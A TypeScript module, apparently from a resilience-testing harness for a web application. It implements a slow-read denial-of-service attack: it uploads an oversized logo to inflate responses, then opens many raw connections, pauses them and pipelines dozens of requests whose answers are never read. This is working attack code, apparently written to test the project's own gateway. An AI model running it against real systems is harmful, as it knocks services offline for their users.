import { runWorkers, untilAborted } from '../sending/attack.ts';
import type { Attack, Target } from '../sending/attack.ts';
import { createCaller } from '../sending/caller.ts';
import { openRaw } from '../sending/raw-connection.ts';
import { largeLogo } from './pictures.ts';

const pipelined = 45;

/** Gives an attacker's account a logo that makes each answer large. */
const saveLargeLogo = async ({ gateway, lone, attackers }: Target): Promise<void> => {
  const { token } = attackers.shared(1);
  const caller = createCaller(gateway, { from: lone, timeoutMs: 20_000 });
  const details = {
    firstname: 'Regula',
    lastname: 'Ammann',
    organization: 'Angreifer GmbH',
    address: 'Technikumstrasse 8',
    zip: '8400',
    city: 'Winterthur',
  };
  const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
  const body = JSON.stringify({
    ...details,
    logo: `data:image/png;base64,${largeLogo().toString('base64')}`,
  });
  await caller.send({ method: 'PUT', path: '/api/account', headers, body }).catch(() => undefined);
  caller.close();
};

/** Many requests at once on each connection, whose answers are never read. */
export const slowReads: Attack = {
  name: 'unread answers',
  prepare: saveLargeLogo,
  run: async (target: Target, signal) => {
    const tally = target.createTally();
    const { token, reference } = target.attackers.shared(1);
    const paths = [
      '/api/account',
      `/api/zeugnisse/${reference}/bewertung`,
      '/login',
      '/api/account/prices',
      '/api/captcha',
    ];
    const connections = target.isFull ? 300 : 60;
    await runWorkers({ workers: 20, most: connections, signal }, async (n) => {
      // Half of the connections come from one address.
      const connection = await openRaw(target.gateway, n % 2 === 0 ? target.lone : target.crowd(n), signal);
      if (connection === undefined) return tally.nothing();
      connection.socket.pause();
      const path = paths[n % paths.length] ?? '/';
      const request = `GET ${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\n\r\n`;
      connection.socket.write(request.repeat(pipelined));
      tally.sent(pipelined);
      tally.nothing();
    });
    await untilAborted(signal);
    return tally.counts();
  },
};
